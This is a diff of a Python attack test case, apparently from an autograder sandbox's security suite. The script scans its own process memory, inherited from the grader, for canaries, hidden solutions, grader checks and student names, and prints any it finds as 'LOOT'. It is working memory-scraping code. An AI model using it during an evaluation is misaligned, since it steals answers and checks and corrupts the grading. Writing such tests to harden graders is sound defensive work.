@@ -1,29 +1,24 @@
 # attack: searches its own memory, a copy of its parent's, for checks, solutions, names of students and other secrets
 # exercise: ex01_map_dataset
 # check: ex01.tabular.len
+# slow: reads 450 MiB
+import ctypes
 import re
 
-# Written so that this file itself, which lies in the memory too, does not match.
-SECRETS = [bytes(text, "ascii") for text in (
-    r"canar[y]-[0-9a-f]{16}", r"### BEGIN SOLUTIO[N]", r"from graders.checks.expect impor[t]", r"expected_answe[r]",
-    r"malloru?[y]\b.{0,20}\d", r"def test_tabular_le[n]", r"range-\w+/othe[r]", r"CANAR[Y]=", r"submission.: .mall",
-)]  # fmt: skip
+# (beginning, how it goes on): in two parts, as this text lies in the memory as well
+SECRETS = [(b"canar", rb"y-[0-9a-f]{16}(?!/canary.txt)"), (b"BEGIN SOLUTIO", rb"N: "), (b"graders.checks.expec", rb"t import"), (b"mallor", rb"y\0")]
 searched = 0
-with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
-    for line in maps.readlines():
-        span, rights, *_, name = [*line.split(maxsplit=5), ""][:6] if len(line.split(maxsplit=5)) == 6 else [*line.split()[:2], ""]
-        begin, end = (int(x, 16) for x in span.split("-"))
-        if not rights.startswith("rw") or end - begin > 2**28:
-            continue
-        try:
-            memory.seek(begin)
-            data = memory.read(end - begin)
-        except (OSError, ValueError):
-            continue
-        searched += len(data)
-        for secret in SECRETS:
-            for hit in re.finditer(secret, data):
-                around = data[max(hit.start() - 40, 0) : hit.end() + 40]
-                if b"[" not in around and b"@" not in around:
-                    print("LOOT:", name, around)
-print("TRIED", searched)
+for line in open("/proc/self/maps").readlines():
+    span, rights, _, _, inode, *name = line.split()
+    begin, end = (int(x, 16) for x in span.split("-"))
+    if not rights.startswith("rw") or inode != "0" or end - begin > 2**28:
+        continue
+    memory = ctypes.string_at(begin, end - begin)
+    searched += len(memory)
+    for start, rest in SECRETS:
+        at = memory.find(start)
+        while at >= 0:
+            if re.match(rest, memory[at + len(start) : at + 100]):
+                print("LOOT:", name, memory[max(at - 60, 0) : at + 100])
+            at = memory.find(start, at + 1)
+print("TRIED", searched >> 20, "MiB")
